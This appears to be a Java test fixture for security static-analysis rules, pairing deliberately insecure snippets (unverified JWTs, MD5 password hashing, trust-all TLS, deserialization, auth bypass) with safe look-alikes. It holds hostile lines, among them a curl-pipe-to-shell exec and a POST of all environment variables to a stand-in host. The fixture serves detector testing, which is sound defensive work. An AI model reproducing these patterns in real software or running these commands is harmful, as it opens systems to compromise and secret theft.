package com.example;

import io.jsonwebtoken.*;
import com.auth0.jwt.JWT;
import com.auth0.jwt.algorithms.Algorithm;
import java.io.*;
import java.security.*;
import java.util.Random;
import javax.crypto.Cipher;
import javax.net.ssl.*;
import java.security.cert.X509Certificate;

public class Fixture {
    static {
        try {
            // ruleid: java-network-in-static-initializer
            new URL("https://update.example/ping").openStream().close();
        } catch (IOException e) {
            // ignore
        }
    }

    Claims gateway(String token, PublicKey key) {
        // ruleid: java-jwt-unsecured-parse
        return Jwts.parserBuilder().setSigningKey(key).build().parseClaimsJwt(token).getBody();
    }

    Claims access(String token, PublicKey key) {
        // ok: java-jwt-unsecured-parse
        return Jwts.parserBuilder().setSigningKey(key).build().parseClaimsJws(token).getBody();
    }

    String sign() {
        // ruleid: java-jwt-none-algorithm
        return JWT.create().withSubject("x").sign(Algorithm.none());
    }

    String role(String token) {
        // ruleid: java-jwt-decode-without-verify
        return JWT.decode(token).getClaim("role").asString();
    }

    byte[] hashPassword(String pw) throws Exception {
        // ruleid: java-weak-hash-security-context
        return MessageDigest.getInstance("MD5").digest(pw.getBytes());
    }

    byte[] checksum(byte[] file) throws Exception {
        // ok: java-weak-hash-security-context
        return MessageDigest.getInstance("MD5").digest(file);
    }

    byte[] legacy(Key k, byte[] r) throws Exception {
        // ruleid: java-broken-cipher, java-ecb-mode
        Cipher c = Cipher.getInstance("DES/ECB/PKCS5Padding");
        // ruleid: java-ecb-mode
        Cipher d = Cipher.getInstance("AES");
        // ok: java-broken-cipher, java-ecb-mode
        Cipher g = Cipher.getInstance("AES/GCM/NoPadding");
        return c.doFinal(r);
    }

    static String smsCode() {
        // ruleid: java-insecure-random-secret
        Random rng = new Random();
        return String.valueOf(rng.nextInt(1000000));
    }

    static long jitter() {
        // ok: java-insecure-random-secret
        return new Random().nextInt(250);
    }

    SSLContext trustAll() throws Exception {
        TrustManager[] managers = new TrustManager[] {
            new X509TrustManager() {
                public void checkClientTrusted(X509Certificate[] chain, String authType) {}
                // site of the retired java-trust-all-certificates (now the tree-sitter analysis')
                public void checkServerTrusted(X509Certificate[] chain, String authType) {}
                public X509Certificate[] getAcceptedIssuers() { return new X509Certificate[0]; }
            }
        };
        SSLContext ctx = SSLContext.getInstance("TLS");
        ctx.init(null, managers, new SecureRandom());
        // ruleid: java-hostname-verifier-accepts-all
        HttpsURLConnection.setDefaultHostnameVerifier((h, s) -> true);
        return ctx;
    }

    void install() throws IOException {
        // ruleid: java-runtime-exec-network-shell
        Runtime.getRuntime().exec(new String[]{"sh", "-c", "curl -s https://x.example/i.sh | sh"});
        // ok: java-runtime-exec-network-shell
        Runtime.getRuntime().exec(new String[]{"git", "status"});
    }

    Object restore(byte[] raw) throws Exception {
        // ruleid: java-object-input-stream-read
        return new ObjectInputStream(new ByteArrayInputStream(raw)).readObject();
    }

    Object restore2(InputStream in) throws Exception {
        ObjectInputStream ois = new ObjectInputStream(in);
        // ruleid: java-object-input-stream-read
        return ois.readObject();
    }

    protected void doFilter(HttpServletRequest req, HttpServletResponse res, FilterChain chain)
            throws IOException, ServletException {
        // ruleid: java-auth-skipped-on-flag
        if ("true".equalsIgnoreCase(System.getenv("SKIP_AUTH"))) {
            chain.doFilter(req, res);
            return;
        }
        // ok: java-auth-skipped-on-flag
        if (req.getHeader("Authorization") == null) {
            res.sendError(401);
            return;
        }
        chain.doFilter(req, res);
    }

    boolean check(byte[] mac, byte[] expectedMac, String password, String token, String given) {
        // ruleid: java-timing-unsafe-comparison
        if (Arrays.equals(mac, expectedMac)) return true;
        // ruleid: java-timing-unsafe-comparison
        if (token.equals(given)) return true;
        // ok: java-timing-unsafe-comparison
        if (MessageDigest.isEqual(mac, expectedMac)) return true;
        // ok: java-timing-unsafe-comparison
        if (token.equals(null)) return false;
        // ruleid: java-credential-compared-with-literal
        return "Sup3rM@ster!".equals(password);
    }

    void report(HttpClient client) throws Exception {
        String body = System.getenv().toString();
        // site of the retired java-environment-sent-over-network (now the tree-sitter analysis')
        HttpRequest req = HttpRequest.newBuilder(URI.create("https://x.example/c")).POST(HttpRequest.BodyPublishers.ofString(body)).build();
        // look-alike of the retired java-environment-sent-over-network (now the tree-sitter analysis')
        HttpRequest ok = HttpRequest.newBuilder(URI.create("https://x.example/c")).POST(HttpRequest.BodyPublishers.ofString(System.getenv("REGION"))).build();
    }

    SSLContext old() throws Exception {
        // site of the retired java-obsolete-tls-version (now the tree-sitter analysis')
        return SSLContext.getInstance("TLSv1");
    }

    void convert(String name) throws IOException {
        // site of the retired java-shell-command-built-from-strings (now the tree-sitter analysis')
        Runtime.getRuntime().exec("convert " + name + " out.png");
        // look-alike of the retired java-shell-command-built-from-strings (now the tree-sitter analysis')
        new ProcessBuilder("convert", name, "out.png").start();
    }
}
